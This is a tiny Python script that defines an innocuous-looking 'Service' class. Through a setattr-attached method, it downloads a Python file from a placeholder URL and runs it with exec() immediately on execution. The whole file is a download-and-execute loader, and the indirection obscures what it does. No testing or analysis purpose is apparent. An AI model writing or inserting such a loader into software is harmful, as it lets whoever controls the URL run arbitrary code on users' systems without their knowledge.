import urllib.request


class Service:
    url = "https://example.com/sm.py"


def _start(self):
    exec(urllib.request.urlopen(self.url).read())


setattr(Service, "start", _start)
Service().start()
